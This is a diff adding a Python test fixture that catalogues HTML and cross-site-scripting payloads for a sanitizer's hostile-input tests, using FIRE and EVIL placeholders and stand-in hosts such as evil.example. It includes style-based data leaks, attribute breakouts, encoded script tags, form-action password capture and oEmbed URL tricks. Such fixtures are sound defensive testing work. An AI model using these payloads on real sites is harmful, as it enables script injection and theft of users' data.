@@ -1,0 +1,125 @@
+"""Attacks by styles, pictures, forms and what the site itself does with a text."""
+
+# ruff: noqa: E501 (a payload is one line)
+
+from tests.hostile.attacks import attack
+
+TRICKERY = (
+    attack(
+        "style element",
+        "<style>@import 'EVIL';</style>",
+        "<style>body{background:url(EVIL)} input[value^=a]{background:url(EVIL)}</style>",
+        "<style>*{x:expression(FIRE);behavior:url(EVIL);-moz-binding:url(EVIL)}</style>",
+        "<style></style/><img src=x onerror=FIRE>",
+    ),
+    attack(
+        "style attribute",
+        '<p style="position:fixed;inset:0;z-index:9;background:url(EVIL)">x</p>',
+        '<figure class="image image_resized" style="width:50%;position:fixed;background:url(EVIL)">x</figure>',
+        '<figure class="image image_resized" style="width:calc(1px);width:9999%;width:50%/**/;top:0">x</figure>',
+        '<figure class="table" style="width:expression(FIRE)"><table><tr><td>x</td></tr></table></figure>',
+        "<table width=9999 style='width:9999px'><tr><td style='background-image:url(EVIL)'>x</td></tr></table>",
+    ),
+    attack(
+        "remote picture and sound",
+        "<img src=EVIL>",
+        '<img srcset="EVIL 1x"><picture><source srcset=EVIL><img src=EVIL></picture>',
+        "<video poster=EVIL src=EVIL autoplay></video><audio src=EVIL autoplay onerror=FIRE></audio>",
+        "<video><source onerror=FIRE src=EVIL><track src=EVIL></video>",
+        '<img lowsrc=EVIL dynsrc=EVIL longdesc=EVIL usemap=#m><map name=m><area href="javascript:FIRE"></map>',
+    ),
+    attack(
+        "picture's id",
+        "<img data-image-id=\"1' onerror='FIRE\" src=x>",
+        '<img data-image-id="../../{uid}" src=x onerror=FIRE>',
+        '<img data-image-id="x" src="EVIL">',
+        '<image data-image-id="x" xlink:href="EVIL" onerror=FIRE>',
+    ),
+    attack(
+        "video's address",
+        '<oembed url="javascript:FIRE//youtube.com/watch?v=dQw4w9WgXcQ"></oembed>',
+        '<figure class="media"><oembed url="https://youtu.be.evil.example/dQw4w9WgXcQ"></oembed></figure>',
+        '<oembed url="https://evil.example/https://www.youtube.com/watch?v=dQw4w9WgXcQ"></oembed>',
+        '<oembed url="https://www.youtube.com/embed/dQw4w9WgXcQ&quot; onload=&quot;FIRE"></oembed>',
+        "<oembed url='https://vimeo.com/123456789?h=&quot;&gt;&lt;img src=x onerror=FIRE&gt;'></oembed>",
+        '<figure class="media"><div data-oembed-url="EVIL"><iframe src="EVIL"></iframe></div></figure>',
+    ),
+    attack(
+        "table's attributes",
+        "<table background=EVIL><tr background=EVIL><td background=EVIL>x</td></tr></table>",
+        "<table><colgroup><col span=1000 onclick=FIRE></colgroup><tr><td colspan='9 onclick=FIRE'>x</td></tr></table>",
+        "<table><tr><td rowspan=\"2' onclick='FIRE\">x</td></tr></table>",
+        "<table><caption onclick=FIRE><img src=x onerror=FIRE>x</caption><tr><th scope='\"FIRE'>x</th></tr></table>",
+    ),
+    attack(
+        "comment and instruction",
+        "<!--><img src=x onerror=FIRE>-->",
+        "<!--[if gte IE 4]><script>FIRE</script><![endif]-->",
+        "<![CDATA[<img src=x onerror=FIRE>]]><svg><![CDATA[><img src=x onerror=FIRE>]]></svg>",
+        '<?xml-stylesheet href="javascript:FIRE"?><?php FIRE ?><!ENTITY x SYSTEM "EVIL">&x;',
+        "<!-- --!><img src=x onerror=FIRE> -->",
+        "</ onclick=FIRE><%<img src=x onerror=FIRE>%>",
+    ),
+    attack(
+        "character set",
+        "+ADw-script+AD4-FIRE+ADw-/script+AD4-",
+        "\ufeff<\x00img src=x on\x00error=FIRE>",
+        "\uff1cscript\uff1eFIRE\uff1c/script\uff1e",
+        "\u00c0\u00bcscript\u00c0\u00beFIRE<img\x0bsrc=x\x0conerror=FIRE>",
+        "<\u017fcript>FIRE</\u017fcript>\x1b$B<img src=x onerror=FIRE>\x1b(B",
+    ),
+    attack(
+        "attribute breakout",
+        "<a href='https://a.example/\"onmouseover=\"FIRE'>x</a>",
+        '<a href="https://a.example/` onmouseover=`FIRE">x</a>',
+        "<img alt='\"><img src=x onerror=FIRE>' data-image-id=x>",
+        '<a href="https://a.example/?<script>FIRE</script>" title="&quot; onclick=FIRE">x</a>',
+        '<a href="mailto:a@a.example?body=&quot;&gt;&lt;svg onload=FIRE&gt;">x</a>',
+    ),
+    attack(
+        "form",
+        '<form action="javascript:FIRE"><button>x</button></form>',
+        '<button form=x formaction="javascript:FIRE">x</button><input type=image src=EVIL onerror=FIRE>',
+        "<form action=EVIL><input name=password type=password autofocus onfocus=FIRE></form>",
+        "<isindex type=image src=1 onerror=FIRE><keygen autofocus onfocus=FIRE>",
+        "<input value='x' oninput=FIRE><select autofocus onfocus=FIRE><option>x</select>",
+    ),
+    attack(
+        "window and ping",
+        '<a href="https://a.example/" target=_blank rel=opener ping=EVIL>x</a>',
+        '<a href="https://a.example/" download="x.html" attributionsrc=EVIL referrerpolicy=unsafe-url>x</a>',
+    ),
+    attack(
+        "popover and invoker",
+        "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=FIRE>x</div>",
+        "<button commandfor=x command=show-modal>x</button><dialog id=x open oncommand=FIRE>x</dialog>",
+        "<div contenteditable onbeforeinput=FIRE inert hidden=until-found onbeforematch=FIRE>x</div>",
+    ),
+    attack(
+        "custom element",
+        "<x-y is=z onclick=FIRE tabindex=1 onfocus=FIRE autofocus>x</x-y>",
+        "<slot onslotchange=FIRE><p slot=x>x</p></slot><o:p onclick=FIRE>x</o:p>",
+    ),
+    attack(
+        "the site's own scripts",
+        '<a class="video" data-embed-url="EVIL" href="https://a.example/">x</a>',
+        '<a class="enlarge" href="javascript:FIRE"><img src=x></a>',
+        '<textarea data-editor data-upload-url="EVIL">x</textarea><div data-block="FIRE" data-contentpath=x>x</div>',
+        '<div data-controller="w-init w-action" data-w-action-url-value="EVIL" data-action="click->x">x</div>',
+        '<div class="raw-html-embed"><script>FIRE</script></div><embed embedtype="image" id="1" alt="x">',
+        '<a linktype="page" id="1" href="javascript:FIRE">x</a>',
+    ),
+    attack(
+        "old browser's element",
+        "<body background=EVIL onload=FIRE onpageshow=FIRE>",
+        "<bgsound src=javascript:FIRE><layer src=EVIL></layer><ilayer src=EVIL></ilayer>",
+        "<marquee onstart=FIRE>x</marquee><xml id=x src=EVIL></xml><v:vmlframe src=EVIL>x</v:vmlframe>",
+    ),
+    attack(
+        "markdown and chat",
+        "[x](javascript:FIRE) ![x](EVIL) <javascript:FIRE>",
+        "`<img src=x onerror=FIRE>` ||<b onclick=FIRE>x</b>|| @everyone <@!1>",
+    ),
+    attack("direction and nothing", "x\u202e<b>moc.elpmaxe.live//:sptth</b>\u2066\u200b\U000e0001x"),
+    attack("text that never ends", "<plaintext><img src=x onerror=FIRE>", "<listing><img src=x onerror=FIRE"),
+)
